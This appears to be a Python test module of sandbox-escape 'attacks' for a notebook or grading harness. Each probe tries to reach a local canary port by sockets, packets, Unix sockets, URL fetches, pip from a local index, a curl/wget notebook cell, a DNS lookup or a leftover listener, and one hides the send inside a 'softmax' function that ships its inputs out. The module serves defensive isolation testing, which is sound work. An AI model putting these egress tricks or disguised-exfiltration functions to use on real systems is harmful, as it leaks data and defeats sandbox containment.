"""What talks to others. Somebody listens on {port}, and must hear nothing."""

from .attack import FIRST, family

ATTACKS = []
attack = family("network", ATTACKS)


@attack(FIRST)
def connects():
    """The nearest neighbour."""
    import socket

    socket.create_connection(("127.0.0.1", int("{port}")), timeout=2).send(b"hello")


@attack("softmax")
def answer_connects():
    """The same while it is judged: the inputs are sent away."""

    def softmax(scores, axis=-1):
        import socket

        socket.create_connection(("127.0.0.1", int("{port}")), timeout=2).send(scores.tobytes())
        return scores


@attack(FIRST)
def connects_by_other_names():
    """Every name that a machine has for itself."""
    import socket

    for host in ("localhost", "::1", "0.0.0.0", "127.1.2.3", "::ffff:127.0.0.1", socket.gethostname()):
        try:
            socket.create_connection((host, int("{port}")), timeout=1).send(b"hello")
        except OSError:
            pass


@attack(FIRST)
def throws_packets():
    """Without a connection."""
    import socket

    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(socket.AF_INET, kind).sendto(b"hello", ("127.0.0.1", int("{port}")))
        except OSError:
            pass


@attack(FIRST)
def whispers_to_an_abstract_socket():
    """A socket without a file: only a network namespace hides it."""
    import socket

    socket.socket(socket.AF_UNIX).connect("\0mha_canary_{port}")


@attack(FIRST)
def whispers_to_a_socket_file():
    """A socket that is a file: only mounts hide it."""
    import socket

    socket.socket(socket.AF_UNIX).connect("{canary}/socket")


@attack(FIRST)
def fetches_an_address():
    """What every script does."""
    from urllib.request import urlopen

    urlopen("http://127.0.0.1:{port}/solution", timeout=2).read()


@attack(FIRST, rest="nothing")
def installs_a_package():
    """Whatever pip brings runs."""
    import subprocess
    import sys

    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://127.0.0.1:{port}/", "mha-attack"],
        timeout=20,
    )


@attack(
    FIRST,
    cells={"weight_ratio": "!curl -s -m 2 http://127.0.0.1:{port}/ || wget -T 2 -t 1 http://127.0.0.1:{port}/"},
)
def fetches_by_shell():
    """Another program fetches it."""
    import subprocess

    code = "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)"
    subprocess.run(["python3", "-c", code], timeout=5)


@attack(FIRST)
def asks_for_a_name():
    """A name can carry a message, and asking can take for ever."""
    import socket

    try:
        socket.getaddrinfo("mha-attack.invalid", 80)
    except OSError:
        pass


@attack(FIRST)
def listens():
    """It opens a door for others, and leaves it open."""
    import socket
    import threading

    door = socket.socket()
    door.bind(("127.0.0.1", 0))
    door.listen()
    threading.Thread(target=door.accept, daemon=True).start()


@attack(FIRST)
def talks_to_the_kernels_of_others():
    """A kernel's ports stand in a file of the home; whoever knows them can run code there."""
    import json
    import pathlib
    import socket

    for file in pathlib.Path("{home}").rglob("kernel-*.json"):
        print("found", json.loads(file.read_text())["shell_port"])
    socket.create_connection(("127.0.0.1", int("{port}")), timeout=1)
